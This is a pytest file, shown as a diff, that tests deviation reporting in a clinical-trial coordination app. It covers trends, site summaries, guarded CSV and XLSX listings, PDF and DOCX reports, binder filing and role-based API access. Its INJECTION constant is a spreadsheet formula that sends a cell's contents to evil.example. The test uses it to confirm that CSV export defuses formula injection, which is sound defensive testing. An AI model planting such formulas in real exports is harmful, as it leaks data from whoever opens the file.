@@ -1,0 +1,269 @@
+"""Deviation reports on known data: trends, the site summary, guarded listings, the log and the monitoring
+visit report as PDF/A and DOCX filed into the binder, the API's role refusals and the pages; on SQLite and
+PostgreSQL."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from datetime import date, datetime, timezone
+
+import docx
+import openpyxl
+import pikepdf
+import pytest
+
+from tests.conftest import PASSWORD, RANDOMIZED, SITE_A, SITE_B, SUBJECT_A, SUBJECT_B, signed_in
+from trialcoord.adapters.render.documents import render_pdf
+from trialcoord.domain.documents import DocumentKey
+from trialcoord.services import accounts, audit_log, deviation_reports as reports, deviation_review, deviations
+from trialcoord.services import documents, scheduling
+
+pytestmark = pytest.mark.anyio
+TODAY = date(2024, 6, 1)
+INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def at(text: str) -> datetime:
+    return datetime.fromisoformat(text).replace(tzinfo=timezone.utc)
+
+
+@pytest.fixture
+async def reported(personas, monkeypatch):
+    """Site A: 1001 (V2 4 days late; screening and V3 missed) and 1002 (withdrawn; screening missed), found on
+    2024-04-01, and a manual deviation recorded on 2024-05-20; site B: 2001 (V2, V3 on time; screening missed,
+    closed 10 days after detection). A licence at site A expires within 60 days."""
+    moment: dict[str, datetime | None] = {"now": None}
+    real = audit_log.clock
+    monkeypatch.setattr(audit_log, "clock", lambda: moment["now"] or real())
+    study = "TST-1"
+    await scheduling.enroll_participant(study, "1002", SITE_A, arm="P", enrolled_on=RANDOMIZED, today=TODAY)
+    for subject in (SUBJECT_A, SUBJECT_B, "1002"):
+        await scheduling.record_event(study, subject, "randomization", RANDOMIZED, today=TODAY)
+    await scheduling.record_event(study, "1002", "withdrawal", date(2024, 3, 10), today=TODAY)
+    await scheduling.record_visit(study, SUBJECT_A, "V2", date(2024, 3, 25), today=TODAY)
+    await scheduling.record_visit(study, SUBJECT_B, "V2", date(2024, 3, 18), today=TODAY)
+    await scheduling.record_visit(study, SUBJECT_B, "V3", date(2024, 4, 1), today=TODAY)
+    moment["now"] = at("2024-04-01T12:00:00")
+    await deviations.detect(study, TODAY)
+    moment["now"] = at("2024-05-20T09:00:00")
+    await deviations.record_manual(study, SITE_A, "other", INJECTION, date(2024, 5, 19), "coord-a",
+                                   subject_id=SUBJECT_A, today=TODAY)
+    [at_b] = (await deviations.listing(study, sites=[SITE_B]))[0]
+    moment["now"] = at("2024-04-11T10:00:00")
+    await deviation_review.take_step(study, at_b["id"], "acknowledge", "monitor")
+    await deviation_review.take_step(study, at_b["id"], "classify", "monitor", classification="non_important",
+                                     category="visit schedule", subcategory="VISIT MISSED",
+                                     signing=await accounts.signing_by_password("monitor", "review", PASSWORD))
+    await deviation_review.take_step(study, at_b["id"], "close", "monitor",
+                                     signing=await accounts.signing_by_password("monitor", "approval", PASSWORD))
+    moment["now"] = None
+    pdf = render_pdf("binder_cover", {"study_code": study, "study_title": "T", "site_code": SITE_A, "site_name": "R",
+                                      "investigator": "I", "sponsor": "S"},
+                     created_at="2024-01-01T00:00:00.000000Z", title="Licence", version_label="1")
+    licence = DocumentKey(study, SITE_A, "Licence Ivan")
+    await documents.add_version(licence, "090", "2024", pdf, "licence.pdf", expires_on=date(2024, 7, 1))
+    await documents.change_status(licence, "2024", "in_review", date(2024, 1, 2))
+    await deviation_review_sign(licence)
+    await documents.change_status(licence, "2024", "approved", date(2024, 1, 2))
+    await documents.change_status(licence, "2024", "effective", date(2024, 1, 2))
+    return study
+
+
+async def deviation_review_sign(key):
+    from tests.conftest import sign_version
+
+    await sign_version(key, "2024", "ivan")
+
+
+async def test_trends_on_known_data(reported):
+    trend = await reports.trends(reported, as_of=TODAY)
+    assert trend["total"] == 6 and trend["excluded"] == 0
+    assert trend["by_site"] == [(SITE_A, 5), (SITE_B, 1)]
+    assert dict(trend["by_rule"]) == {"visit_missed": 4, "visit_late": 1, "manual": 1}
+    # screening windows closed in March, V2 was late in March, V3 (after a late V2) closed in April
+    assert trend["months"] == ["2024-03", "2024-04", "2024-05"]
+    assert trend["by_month_and_category"] == {"other": [0, 0, 1], "visit schedule": [4, 1, 0]}
+    assert trend["days_to_closure"] == [10]
+    assert {(r["site"], r["rule"], r["total"]) for r in trend["repeats"]} == {(SITE_A, "visit_missed", 3)}
+    only_b = await reports.trends(reported, sites=[SITE_B], as_of=TODAY)
+    assert only_b["by_site"] == [(SITE_B, 1)] and only_b["closure"]["median_days"] == 10
+
+
+async def test_site_summary_figures_on_known_data(reported):
+    summary = await reports.site_summary(reported, [SITE_A, SITE_B], TODAY)
+    a, b = summary["sites"]
+    assert (a["participants"], a["active"], a["ended"]) == (2, 1, 1)
+    # A: V2 late is the one visit done; screening (twice) and V3 missed. B: V2, V3 on time, screening missed.
+    assert (a["visits_done"], a["visits_due"], a["completion_rate"], a["on_time_rate"]) == (1, 4, 0.25, 0.0)
+    assert (b["visits_done"], b["visits_due"], b["on_time_rate"]) == (2, 3, 1.0)
+    assert a["ages"] == {"0-30": 1, "31-60": 0, "61-90": 4, ">90": 0} and a["open_deviations"] == 5
+    assert b["open_deviations"] == 0
+    total = summary["total"]
+    assert (total["participants"], total["visits_done"], total["visits_due"]) == (3, 3, 7)
+    assert total["on_time_rate"] == round(2 / 3, 4)
+    assert summary["documents"] == [{"site": SITE_A, "document": "Licence Ivan", "version": "2024",
+                                     "state": "expiring", "expires_on": "2024-07-01"}]
+    assert a["expiring"] == 1 and b["expiring"] == 0 and summary["reconsent"] == []
+
+
+async def test_csv_listing_is_guarded_and_xlsx_reads_back(reported):
+    data, count = await reports.listing_file(reported, None, "csv", "sponsor")
+    assert data.startswith(b"\xef\xbb\xbf") and count == 6
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
+    manual = next(r for r in rows if r["RULE"] == "manual")
+    assert manual["DVTERM"] == "'" + INJECTION  # inert: a spreadsheet shows it as text
+    assert (manual["USUBJID"], manual["DVCAT"], manual["SITEID"], manual["DVSTDTC"]) == (
+        f"TST-1-{SUBJECT_A}", "OTHER", SITE_A, "2024-05-19")
+    assert [r["DVSEQ"] for r in rows if r["USUBJID"] == f"TST-1-{SUBJECT_A}"] == ["1", "2", "3", "4"]
+    book, _ = await reports.listing_file(reported, [SITE_B], "xlsx", "coord-b")
+    sheet = openpyxl.load_workbook(io.BytesIO(book)).active
+    values = list(sheet.iter_rows(values_only=True))
+    assert values[0] == tuple(reports.LISTING_COLUMNS) and len(values) == 2
+    row = dict(zip(values[0], values[1]))
+    assert (row["SITEID"], row["STATE"], row["RULE"], row["DVDECOD"]) == (SITE_B, "closed", "visit_missed",
+                                                                          "VISIT MISSED")
+    assert row["CLOSED_UTC"] == datetime(2024, 4, 11, 10, 0)  # a real date-time cell
+    exports = await audit_log.browse(audit_log.AuditFilter(record_type="deviation_listing"), None, 5)
+    assert [(e["actor"], e["action"], e["new"]["format"]) for e in exports] == [("coord-b", "export", "xlsx"),
+                                                                               ("sponsor", "export", "csv")]
+
+
+def drawn_text(data: bytes) -> str:
+    """The text of the pages and of the form XObjects on them (WeasyPrint draws an inline SVG into one),
+    decoded through each font's ToUnicode map."""
+    chunks: list[str] = []
+
+    def walk(content, resources) -> None:
+        maps = {}
+        for name, font in (resources.get("/Font") or {}).items():
+            cmap = font.ToUnicode.read_bytes().decode()
+            pairs = re.findall(r"<([0-9a-f]+)>\s*<([0-9a-f]+)>", cmap.split("endcodespacerange")[1])
+            maps[name] = {bytes.fromhex(code): bytes.fromhex(text).decode("utf-16-be") for code, text in pairs}
+        glyphs: dict = {}
+        for operands, operator in pikepdf.parse_content_stream(content):
+            if str(operator) == "Tf":
+                glyphs = maps.get(str(operands[0]), {})
+            elif str(operator) == "TJ":
+                raw = b"".join(bytes(item) for item in operands[0] if isinstance(item, pikepdf.String))
+                chunks.append("".join(glyphs.get(raw[i:i + 2], "") for i in range(0, len(raw), 2)))
+        for form in (resources.get("/XObject") or {}).values():
+            if form.get("/Subtype") == "/Form":
+                walk(form, form.get("/Resources") or resources)
+
+    with pikepdf.open(io.BytesIO(data)) as pdf:
+        for page in pdf.pages:
+            walk(page, page.Resources)
+    return " ".join(" ".join(chunks).split())
+
+
+async def test_the_log_pdf_draws_its_charts_and_the_docx_holds_the_rows(reported):
+    pdf, name = await reports.render_report(reported, SITE_A, reports.LOG, "pdf", TODAY, "Cora (coord-a)")
+    assert pdf.startswith(b"%PDF-") and name == f"deviation_log-TST-1-{SITE_A}-2024-06-01.pdf"
+    with pikepdf.open(io.BytesIO(pdf)) as document:
+        data = document.attachments["data.json"].get_file().read_bytes().decode()
+        meta = document.open_metadata()
+        assert meta["pdfaid:part"] == "3"
+    assert '"title":"Deviations by month and category"' in data and '"kind":"histogram"' in data
+    text = drawn_text(pdf)
+    compact = "".join(text.split())  # an SVG's text comes glyph by glyph
+    assert "Deviationsbymonthandcategory" in compact and "Daysfromdetectiontoclosure" in compact
+    assert "visit_missed" in compact and "2024-03" in compact  # the bars' labels
+    assert INJECTION in compact  # the description as text (wrapped in its narrow column)
+    word = docx.Document(io.BytesIO((await reports.render_report(reported, SITE_A, reports.LOG, "docx", TODAY,
+                                                                 "Cora"))[0]))
+    cells = [[c.text for c in row.cells] for row in word.tables[0].rows]
+    assert cells[0][:3] == ["ID", "Participant", "Visit"] and len(cells) == 6
+    assert {r[1] for r in cells[1:]} == {SUBJECT_A, "1002"} and any(r[4] == INJECTION for r in cells[1:])
+
+
+async def test_the_monitoring_visit_report_lists_open_deviations_with_their_age(reported):
+    data = await reports.report_data(reported, SITE_A, reports.VISIT_REPORT, TODAY, "Mo (monitor)")
+    assert sorted(e["age_days"] for e in data["entries"]) == [12, 61, 61, 61, 61]
+    assert {"label": "Visits done / due", "value": "1 / 4"} in data["summary"]
+    word = docx.Document(io.BytesIO((await reports.render_report(reported, SITE_A, reports.VISIT_REPORT, "docx",
+                                                                 TODAY, "Mo (monitor)"))[0]))
+    assert "prepared by Mo (monitor)" in "\n".join(p.text for p in word.paragraphs)
+    summary, entries, capas = word.tables[:3]
+    assert ["Visit completion", "25.0%"] in [[c.text for c in row.cells] for row in summary.rows]
+    assert len(entries.rows) == 6 and len(capas.rows) == 1  # headers, five open deviations, no CAPA
+
+
+async def test_filing_adds_a_binder_version_per_day_and_change(reported):
+    first = await reports.file_report(reported, SITE_A, reports.LOG, "pdf", TODAY, "coord-a", "Cora")
+    assert (first["filed"], first["label"], first["artifact"]["unique_id"], first["status"]) == (
+        True, "2024-06-01", "110", "draft")
+    again = await reports.file_report(reported, SITE_A, reports.LOG, "pdf", TODAY, "coord-a", "Cora")
+    assert (again["filed"], again["label"], again["sha256"]) == (False, "2024-06-01", first["sha256"])
+    await deviations.record_manual(reported, SITE_A, "other", "Lab kit expired", TODAY, "coord-a", today=TODAY)
+    changed = await reports.file_report(reported, SITE_A, reports.LOG, "pdf", TODAY, "coord-a", "Cora")
+    assert (changed["filed"], changed["label"]) == (True, "2024-06-01.2")
+    report = await reports.file_report(reported, SITE_A, reports.VISIT_REPORT, "docx", TODAY, "coord-a", "Cora")
+    assert (report["label"], report["artifact"]["unique_id"], report["file_name"]) == (
+        "2024-06-01", "107", f"monitoring_visit_report-TST-1-{SITE_A}-2024-06-01.docx")
+    filed = {(r["name"], r["label"]) for r in await documents.list_documents(reported, SITE_A)}
+    assert {("Protocol deviation log", "2024-06-01"), ("Protocol deviation log", "2024-06-01.2"),
+            ("Monitoring visit report", "2024-06-01")} <= filed
+    stored = await documents.version_bytes(DocumentKey(reported, SITE_A, "Protocol deviation log"), "2024-06-01")
+    assert stored.startswith(b"%PDF-")
+    created = await audit_log.browse(audit_log.AuditFilter(record_type="document_version", action="create"), None, 9)
+    assert sorted(e["record_id"] for e in created if "deviation log" in e["record_id"]) == [
+        "TST-1/101/documents/Protocol deviation log/2024-06-01",
+        "TST-1/101/documents/Protocol deviation log/2024-06-01.2"]
+
+
+async def test_api_reports_by_role(reported, anonymous):
+    sponsor = await signed_in(anonymous, "sponsor")
+    trends = (await sponsor.get("/api/studies/TST-1/deviations/trends")).json()
+    assert trends["by_site"] == [[SITE_A, 5], [SITE_B, 1]]
+    refused = await sponsor.post("/api/studies/TST-1/deviations/log/file", json={"site": SITE_A})
+    assert refused.status_code == 403
+    coord_b = await signed_in(anonymous, "coord-b")
+    assert (await coord_b.get("/api/studies/TST-1/deviations/trends")).json()["by_site"] == [[SITE_B, 1]]
+    listed = await coord_b.get("/api/studies/TST-1/deviations/listing.csv")
+    assert listed.headers["content-type"].startswith("text/csv") and f",{SITE_A}," not in listed.text
+    assert listed.text.count("\r\n") == 2
+    assert (await coord_b.get(f"/api/studies/TST-1/deviations/log?site={SITE_A}")).status_code == 403
+    assert (await coord_b.get(f"/api/studies/TST-1/site-summary?site={SITE_A}")).status_code == 403
+    summary = (await coord_b.get("/api/studies/TST-1/site-summary")).json()
+    assert [s["site"] for s in summary["sites"]] == [SITE_B]
+    log = await coord_b.get(f"/api/studies/TST-1/deviations/log?site={SITE_B}&format=docx")
+    assert log.status_code == 200 and log.headers["content-type"].startswith("application/vnd.openxmlformats")
+    assert (await coord_b.get(f"/api/studies/TST-1/deviations/log?site={SITE_B}&format=odt")).status_code == 400
+    monitor = await signed_in(anonymous, "monitor")
+    assert (await monitor.post("/api/studies/TST-1/deviations/monitoring-report/file",
+                               json={"site": SITE_B})).status_code == 403  # monitors do not manage documents
+    pdf = await monitor.get(f"/api/studies/TST-1/site-summary.pdf?site={SITE_B}")
+    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF-")
+    coord_a = await signed_in(anonymous, "coord-a")
+    filed = await coord_a.post("/api/studies/TST-1/deviations/monitoring-report/file", json={"site": SITE_A})
+    assert filed.status_code == 201 and filed.json()["name"] == "Monitoring visit report"
+    assert (await coord_a.post("/api/studies/TST-1/deviations/log/file",
+                               json={"site": SITE_B})).status_code == 403
+    admin = await signed_in(anonymous, "admin")
+    missing = await admin.get("/api/studies/TST-1/deviations/log?site=999")
+    assert missing.status_code == 404 and "999" in missing.json()["detail"]
+    exports = await audit_log.browse(audit_log.AuditFilter(action="export"), None, 20)
+    assert {(e["actor"], e["record_type"]) for e in exports} >= {
+        ("coord-b", "deviation_listing"), ("coord-b", "deviation_log"), ("monitor", "site_summary")}
+
+
+async def test_pages_show_charts_repeats_and_file_into_the_binder(reported, anonymous):
+    coord_a = await signed_in(anonymous, "coord-a")
+    trends = await coord_a.get("/studies/TST-1/deviations/trends")
+    assert trends.status_code == 200 and trends.text.count("<svg") == 4
+    assert 'id="repeats"' in trends.text and "visit missed" in trends.text
+    page = await coord_a.get("/studies/TST-1/reports")
+    assert page.status_code == 200 and 'id="file-form"' in page.text and 'id="site-summary"' in page.text
+    assert f"deviations/log?site={SITE_A}&amp;format=pdf" in page.text and f"log?site={SITE_B}" not in page.text
+    sent = await coord_a.post("/studies/TST-1/reports/file", data={"site": SITE_A, "report": "deviation_log",
+                                                                   "format": "pdf"})
+    assert sent.status_code == 303
+    shown = await coord_a.get(sent.headers["location"])
+    assert "Filed into the binder: Protocol deviation log version" in shown.text
+    bad = await coord_a.post("/studies/TST-1/reports/file", data={"site": SITE_A, "report": "minutes"})
+    assert bad.status_code == 422 and "Choose the deviation log" in bad.text
+    sponsor = await signed_in(anonymous, "sponsor")
+    seen = await sponsor.get("/studies/TST-1/reports")
+    assert seen.status_code == 200 and 'id="file-form"' not in seen.text and "listing.xlsx" in seen.text
